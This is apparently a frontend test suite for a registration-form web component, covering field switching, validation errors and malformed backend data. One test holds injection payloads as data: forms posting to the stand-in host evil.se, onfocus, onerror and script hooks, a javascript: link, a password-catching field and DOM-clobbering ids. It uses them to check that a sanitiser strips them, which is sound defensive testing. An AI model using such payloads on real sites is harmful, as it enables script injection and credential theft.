import { expect } from '@open-wc/testing'
import { find, until } from '../helpers/render.tsx'
import { stubFetch } from '../helpers/stub-fetch.ts'
import {
  FIELDS,
  field,
  GET_FIELDS,
  GET_SNIPPET,
  press,
  renderRegister,
  SAVE,
  SNIPPET,
} from './register-fixtures.ts'

const fields = { body: { fields: FIELDS, successText: null } }

async function openCompany(element: HTMLElement): Promise<void> {
  find<HTMLAnchorElement>(element, '[data-act="type-B2B"]').click()
  await until(() => element.querySelector('form[data-type=B2B] [name=companyName]'))
}

/** What is written to the console while `act` runs. */
async function warningsOf(act: () => Promise<unknown>): Promise<string[]> {
  const { warn } = console
  const warned: string[] = []
  console.warn = (...said: unknown[]) => void warned.push(String(said[0]))
  try {
    await act()
  } finally {
    console.warn = warn
  }
  return warned
}

describe('register-me, of companies and of other backends', () => {
  it('keeps what was typed when the type is switched, and carries over what both ask for', async () => {
    stubFetch({ [GET_FIELDS]: fields, [GET_SNIPPET]: { body: { htmlSnippet: SNIPPET } } })
    const element = await renderRegister()
    field(element, 'firstName').value = 'Kim'
    field(element, '_email').value = 'kim@example.com'
    await openCompany(element)
    await until(() => field(element, 'email').value === 'kim@example.com')
    field(element, 'companyName').value = 'Klubben'
    expect(find<HTMLElement>(element, 'form[data-type=B2C]').hidden).to.equal(true)

    find<HTMLAnchorElement>(element, '[data-act="type-B2C"]').click()
    await until(() => !find<HTMLElement>(element, 'form[data-type=B2C]').hidden)
    expect(field(element, 'firstName').value).to.equal('Kim')
    find<HTMLAnchorElement>(element, '[data-act="type-B2B"]').click()
    expect(field(element, 'companyName').value).to.equal('Klubben')
    await expect(element).to.be.accessible()
  })

  it('sends the names of a snippet, and marks what is wrong in it', async () => {
    const wrong = { fieldId: 'companyName', fieldType: 'Text', validatorMessage: '<i>Fel</i>' }
    const calls = stubFetch({
      [GET_SNIPPET]: { body: { htmlSnippet: `<form action="https://evil.se">${SNIPPET}</form>` } },
      [SAVE]: { body: { success: false, fields: [wrong] } },
    })
    const element = await renderRegister('types="B2B"')
    await until(() => element.querySelector('[name=companyName]'))
    field(element, 'companyName').value = 'Klubben'
    field(element, 'terms').checked = true
    press(element, 'register-B2B')
    await until(() => element.querySelector('[aria-invalid=true]'))

    expect(element.querySelectorAll('form').length).to.equal(1)
    expect(calls.at(-1)?.body).to.deep.equal({
      type: 'B2B',
      token: '',
      fields: [
        { fieldId: 'companyName', fieldValue: 'Klubben' },
        { fieldId: 'email', fieldValue: '' },
        { fieldId: 'formId', fieldValue: '7' },
        { fieldId: 'terms', fieldValue: true },
      ],
    })
    expect(field(element, 'companyName').getAttribute('aria-invalid')).to.equal('true')
    expect(find(element, '.register-me__fault').textContent).to.equal('<i>Fel</i>')
    expect(element.querySelector('i') === null).to.equal(true)
    expect(field(element, 'companyName').value).to.equal('Klubben')
  })

  it('takes out of a snippet what would send, run, look or catch a password', async () => {
    const hostile = [
      '<form action="https://evil.se" onsubmit="hack()"><input name="companyName" value="a"',
      ' onfocus="hack()" autofocus style="position:fixed" formaction="https://evil.se">',
      '<button formaction="https://evil.se" type="submit">x</button>',
      '<input type="password" name="pass"><input type="image" formaction="//evil.se" name="img">',
      '<input name="attributes" id="body"><input name="y" id="createElement" form="other">',
      '<script>hack()</script><img src=data:, onerror="hack()"><style>*{display:none}</style>',
      '<iframe src="//evil.se"></iframe><a href="javascript:hack()">x</a></form>',
    ].join('')
    stubFetch({ [GET_SNIPPET]: { body: { htmlSnippet: hostile } } })
    const element = await renderRegister('types="B2B"')
    await until(() => element.querySelector('[name=companyName]'))
    const place = find(element, '.register-me__snippet')

    const attributes = [...place.querySelectorAll('*')].flatMap((it) => it.getAttributeNames())
    for (const it of [
      'formaction',
      'onfocus',
      'onsubmit',
      'onerror',
      'style',
      'autofocus',
      'action',
    ])
      expect(attributes).not.to.include(it)
    expect(
      place.querySelector('form, script, style, iframe, [type=password], [type=image]'),
    ).to.equal(null)
    expect(place.querySelector('#body, #createElement, [href]') === null).to.equal(true)
  })

  it('leaves out what it does not know, says so in the console, and draws the rest', async () => {
    const odd = [
      null,
      7,
      { fieldId: null, fieldType: 'Text' },
      { fieldId: 'x', fieldType: 'Hologram', fieldLabel: null },
      { fieldId: 'town', fieldType: 'TextOption', fieldOrgValue: '{"not": "a list"' },
      { fieldId: 'size', fieldType: 'TextOption', fieldOrgValue: [{ key: 1, value: null }, null] },
      { fieldId: 'news', fieldType: 'Checkbox', fieldValue: 'True', validatorMessage: null },
      { fieldId: 'age', fieldType: 'Text', fieldValue: 7, fieldLabel: null },
    ]
    stubFetch({ [GET_FIELDS]: { body: { fields: odd } } })
    const warned = await warningsOf(async () => {
      const element = await renderRegister('types="B2C"')
      const names = [...element.querySelectorAll('[name]')].map((it) => it.getAttribute('name'))
      expect(names).to.deep.equal(['town', 'size', 'news', 'age'])
      expect(field(element, 'town').type).to.equal('text')
      expect(find<HTMLSelectElement>(element, 'select').value).to.equal('1')
      expect(field(element, 'news').checked).to.equal(true)
      expect(field(element, 'age').value).to.equal('7')
    })
    expect(warned.some((it) => it.includes('Hologram'))).to.equal(true)
  })

  for (const body of [{}, { fields: null }, { success: false, fields: [] }, { success: null }]) {
    it(`says that it did not work where the shop says no more than ${JSON.stringify(body)}`, async () => {
      stubFetch({ [GET_FIELDS]: fields, [SAVE]: { body } })
      const element = await renderRegister('types="B2C"')
      press(element)
      await until(() => element.querySelector('[role=alert]'))
      expect(element.querySelector('.register-me__done') === null).to.equal(true)
    })
  }

  it('says a refusal of the shop, and when it is too much', async () => {
    stubFetch({
      [GET_FIELDS]: fields,
      [SAVE]: [
        { status: 400, body: { message: 'x', modelState: { firstName: ['Fel här'] } } },
        { status: 429, body: { message: 'Vänta' }, headers: { 'retry-after': '60' } },
      ],
    })
    const element = await renderRegister('types="B2C"')
    press(element)
    await until(() => element.querySelector('.cs-faults'))
    expect(find(element, '.cs-faults').textContent).to.contain('Fel här')
    press(element)
    await until(() => element.querySelector('.cs-problem'))
    expect(find(element, '.cs-problem').textContent).to.contain('60')
  })
})
